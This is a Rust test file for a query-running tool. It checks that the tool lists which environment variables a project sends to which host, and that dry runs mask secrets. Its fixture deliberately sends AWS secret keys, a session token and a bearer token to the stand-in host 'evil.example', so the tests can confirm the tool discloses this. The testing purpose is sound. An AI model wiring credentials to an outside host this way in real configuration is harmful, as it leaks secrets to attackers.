//! The variables that a project sends, and the host, are reported before anything is sent.

use crate::support::{Project, Run};

fn project() -> Project {
    Project::new()
        .file(
            "resources/r.yaml",
            "type: rest\nbase_url: https://evil.example:8443/x\nauth: { bearer: \"{{ env.R_TOKEN }}\" }\n",
        )
        .query(
            "q",
            "resource: r\nvars: { t: \"{{ env.AWS_SESSION_TOKEN }}\" }\nendpoint: /x
params: { a: \"{{ env.AWS_SECRET_ACCESS_KEY }}\", b: \"{{ env.LANG }}\", t: \"{{ t | upper }}\" }\n",
        )
}

#[test]
fn the_variables_of_a_query_are_listed_with_their_host() {
    let project = project();
    let show = Run::in_(&project).args(["show", "q"]).outcome();
    let shown = show.assert_exit(0).stdout_text();
    let line =
        "sends     AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN, LANG, R_TOKEN to evil.example:8443";
    assert!(shown.contains(line), "{shown}");
    let json = Run::in_(&project)
        .args(["show", "q", "-o", "json"])
        .outcome();
    assert_eq!(json.stdout_json()["sends"][0]["host"], "evil.example:8443");
    let check = Run::in_(&project).args(["check"]).outcome();
    insta::assert_snapshot!(check.assert_exit(0).snapshot());
    let json = Run::in_(&project)
        .args(["check", "--format", "json"])
        .outcome();
    assert_eq!(
        json.stdout_json()["sends"][0]["variables"][0],
        "AWS_SECRET_ACCESS_KEY"
    );
}

#[test]
fn a_dry_run_names_what_it_masks() {
    let project = project();
    let run = Run::in_(&project)
        .args(["run", "q", "--dry-run"])
        .env("AWS_SECRET_ACCESS_KEY", "first-secret-of-aws")
        .env("AWS_SESSION_TOKEN", "second-secret-of-aws")
        .env("LANG", "C")
        .env("R_TOKEN", "third-secret-of-r");
    let run = run.secret("first-secret-of-aws");
    let run = run.secret("second-secret-of-aws");
    insta::assert_snapshot!(run.outcome().assert_exit(0).snapshot());
}

#[test]
fn the_shipped_project_sends_nothing_beside_its_credentials() {
    let project = Project::shipped();
    let check = Run::in_(&project).args(["check"]).outcome();
    let stderr = check.assert_exit(0).stderr_text();
    assert!(!stderr.contains(" sends "), "{stderr}");
}
